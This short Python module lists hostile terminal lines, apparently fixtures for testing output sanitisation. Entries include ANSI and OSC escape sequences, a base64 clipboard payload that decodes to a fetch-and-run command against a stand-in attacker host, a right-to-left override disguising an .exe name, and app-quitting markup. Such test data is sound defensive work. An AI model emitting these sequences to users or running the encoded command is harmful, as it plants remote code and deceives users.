"""Lines that would harm a careless terminal program: control sequences, markup, bidirectional overrides."""

__all__ = ["HOSTILE_LINES"]

HOSTILE_LINES = [
    "partner gateway build \x1b[1;35m3.2\x1b[0m",
    "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zaCB8IHNo\x07copied to your clipboard",
    "\x1b]0;owned\x07title set",
    "\x1b[2J\x1b[1;1Hscreen cleared, cursor home",
    "\x1b[10A\x1b[2Kten lines up, line erased",
    '\x1bP$q"p\x1b\\ device control string',
    "\x1b[?1049h alternate screen \x1b[?1000h mouse",
    "progress 10%\rprogress 55%\rprogress 100%",
    "closing tag [/foo] and [bold]markup[/bold] and [@click=app.quit]click me[/]",
    "[Container] not really from the container",
    "[INFO] and [stage-1 3/5] must stay",
    "user \u202egnp.exe\u202c uploaded \u2066invoice\u2069.pdf",
    "null \x00 bell \x07 backspace \x08\x08 vertical tab \x0b form feed \x0c delete \x7f",
    "C1 controls: \x9b31m red? \x9d0;t\x9c",
    "wide 漢字 and emoji 👩‍💻 and combining e\u0301",
    "tab\tseparated\tvalues",
    "\x1b[38;2;255;128;0mtrue colour\x1b[0m \x1b[38;5;208m256 colours\x1b[0m \x1b[4munderlined\x1b[24m",
    "x" * 4000,
]
